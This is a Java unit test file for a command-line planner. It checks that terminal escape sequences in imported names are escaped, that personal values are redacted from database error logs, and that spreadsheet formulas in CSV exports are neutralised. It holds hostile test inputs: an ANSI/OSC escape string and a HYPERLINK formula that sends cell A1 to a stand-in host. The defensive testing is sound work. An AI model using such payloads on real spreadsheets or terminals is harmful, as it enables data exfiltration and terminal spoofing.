package io.upskillplanner.security;

import static io.upskillplanner.security.Hostile.run;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.sql.Statement;

import io.upskillplanner.store.LogRedaction;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.jooq.exception.DataAccessException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Text from someone else's file on the way to a terminal and into the log. */
class HostileTextTest {

    @TempDir
    Path root;

    private final ObjectMapper json = new ObjectMapper();

    @Test
    void controlCharactersInANameAreEscapedOnTheTerminalAndKeptInTheData() throws IOException {
        Path dataDir = root.resolve("data");
        Path plan = root.resolve("plan.json");
        assertThat(run("--data-dir", dataDir.toString(), "export", "json", "--profile", Hostile.PROFILE, "--out",
                plan.toString()).code()).isZero();
        ObjectNode file = (ObjectNode) json.readTree(plan.toFile());
        String hostile = "Eve\u001B]0;owned\u0007\u001B[2J\rMallory";
        ((ObjectNode) file.path("profile")).put("name", hostile);
        json.writeValue(plan.toFile(), file);
        assertThat(run("--data-dir", dataDir.toString(), "import", plan.toString()).code()).isZero();

        Hostile.Result table = run("--data-dir", dataDir.toString(), "profiles");
        Hostile.Result asJson = run("--data-dir", dataDir.toString(), "profiles", "--json");

        assertThat(table.out()).doesNotContain("\u001B").doesNotContain("\u0007").doesNotContain("\rMallory")
                .contains("Eve\\x1B]0;owned\\x07\\x1B[2J\\x0DMallory");
        boolean kept = false;
        for (JsonNode profile : json.readTree(asJson.out())) {
            kept |= profile.path("name").asText().equals(hostile);
        }
        assertThat(kept).as("the name is stored as it came").isTrue();
    }

    @Test
    void aDatabaseErrorGoesIntoTheLogWithoutTheValuesItQuotes() throws SQLException {
        SQLException violation;
        try (Connection connection = DriverManager.getConnection("jdbc:h2:mem:redaction", "sa", "");
                Statement statement = connection.createStatement()) {
            statement.execute("CREATE TABLE PROFILE (NAME VARCHAR(100) UNIQUE, NOTES VARCHAR(1000) CHECK (LENGTH(NOTES) < 5))");
            statement.execute("INSERT INTO PROFILE VALUES ('Maya Lindqvist', 'ok')");
            try {
                statement.execute("INSERT INTO PROFILE VALUES ('Maya Lindqvist', 'ok')");
                throw new AssertionError("no violation");
            } catch (SQLException e) {
                violation = e;
            }
        }
        DataAccessException failure = new DataAccessException("SQL [insert into profile]; " + violation.getMessage(), violation);
        assertThat(failure.getMessage()).contains("Maya Lindqvist");

        StringWriter log = new StringWriter();
        LogRedaction.redacted(failure).printStackTrace(new PrintWriter(log));

        assertThat(log.toString()).doesNotContain("Maya").contains("DataAccessException")
                .contains("JdbcSQLIntegrityConstraintViolationException").contains("PROFILE").contains("\tat ");
    }

    @Test
    void aFormulaInACredentialTitleIsNeutralisedInTheCsvExport() throws IOException {
        Path dataDir = root.resolve("csv-data");
        Path plan = root.resolve("formula.json");
        assertThat(run("--data-dir", dataDir.toString(), "export", "json", "--profile", Hostile.PROFILE, "--out",
                plan.toString()).code()).isZero();
        ObjectNode file = (ObjectNode) json.readTree(plan.toFile());
        for (JsonNode credential : file.path("credentials")) {
            ((ObjectNode) credential).put("title", "=HYPERLINK(\"http://example.invalid/\"&A1,\"open\")");
        }
        json.writeValue(plan.toFile(), file);
        assertThat(run("--data-dir", dataDir.toString(), "import", plan.toString()).code()).isZero();
        Path csv = root.resolve("compare.csv");

        Hostile.Result result = run("--data-dir", dataDir.toString(), "export", "csv", "--profile", Hostile.PROFILE,
                "--goal", file.path("profile").path("goals").get(0).path("title").asText(), "--out", csv.toString());

        assertThat(result.code()).as(result.err()).isZero();
        String text = Files.readString(csv);
        assertThat(text).contains("HYPERLINK");
        assertThat(text).doesNotContainPattern("(^|,|\\n)\"?=HYPERLINK");
    }
}
